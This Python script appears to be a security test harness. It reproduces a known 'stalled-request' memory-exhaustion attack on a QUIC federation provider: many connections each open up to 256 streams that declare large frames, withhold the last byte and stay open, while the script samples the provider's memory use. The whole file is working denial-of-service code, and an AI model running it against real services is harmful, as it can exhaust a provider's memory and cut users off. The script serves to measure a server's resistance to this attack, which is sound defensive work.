#!/usr/bin/env python3
"""The stalled-request attack of issue 11 item 2, for measuring a provider's memory.

A federation member (valid certificate) opens CONNECTIONS connections to a provider and on each
tries to open 256 request streams, each declaring a frame of DECLARED bytes and sending all of
it but the last byte, then holds everything open for HOLD seconds. It prints the provider's
VmRSS (read from /proc/PID/status) before and while the attack holds, in MiB.
"""

import argparse
import asyncio
import ssl
import struct

from aioquic.asyncio import connect
from aioquic.asyncio.protocol import QuicConnectionProtocol
from aioquic.quic.configuration import QuicConfiguration


def rss_mib(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    raise RuntimeError("no VmRSS")


async def attack_one(args, config, host, port, streams_opened):
    async with connect(host, int(port), configuration=config, create_protocol=QuicConnectionProtocol) as conn:
        quic = conn._quic
        payload = struct.pack(">I", args.declared) + b"\xa0" * (args.declared - 1)
        for _ in range(256):
            try:
                sid = quic.get_next_available_stream_id()
                # aioquic queues what flow control does not let through yet; the provider's
                # windows decide how much of it arrives.
                quic.send_stream_data(sid, payload, end_stream=False)
                streams_opened[0] += 1
            except Exception:  # noqa: BLE001 - stream limit reached
                break
            conn.transmit()
        await asyncio.sleep(args.hold)


async def run(args):
    config = QuicConfiguration(is_client=True, alpn_protocols=["fedgate/1"])
    config.server_name = args.peer.replace("@", ".", 1)
    config.load_cert_chain(args.cert, args.key)
    config.verify_mode = ssl.CERT_NONE  # the attacker does not care who the provider is
    config.max_stream_data = 1 << 20
    host, port = args.address.rsplit(":", 1)
    before = rss_mib(args.pid)
    opened = [0]
    tasks = [asyncio.create_task(attack_one(args, config, host, port, opened)) for _ in range(args.connections)]
    peak = before
    for _ in range(int(args.hold * 4) - 2):
        await asyncio.sleep(0.25)
        peak = max(peak, rss_mib(args.pid))
    results = await asyncio.gather(*tasks, return_exceptions=True)
    errors = [r for r in results if isinstance(r, Exception)]
    after = rss_mib(args.pid)
    print(
        f"connections={args.connections} declared={args.declared} streams_queued={opened[0]} "
        f"rss_before={before:.1f}MiB rss_peak={peak:.1f}MiB (+{peak - before:.1f}) rss_after={after:.1f}MiB "
        f"connection_errors={len(errors)}"
    )


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    for a in ["address", "peer", "cert", "key", "trust"]:
        p.add_argument(f"--{a}", required=True)
    p.add_argument("--pid", type=int, required=True, help="the provider's process id")
    p.add_argument("--connections", type=int, default=1)
    p.add_argument("--declared", type=int, default=65536, help="declared frame length")
    p.add_argument("--hold", type=float, default=4.0, help="seconds to hold (below the 5 s timeout)")
    asyncio.run(run(p.parse_args()))


if __name__ == "__main__":
    main()
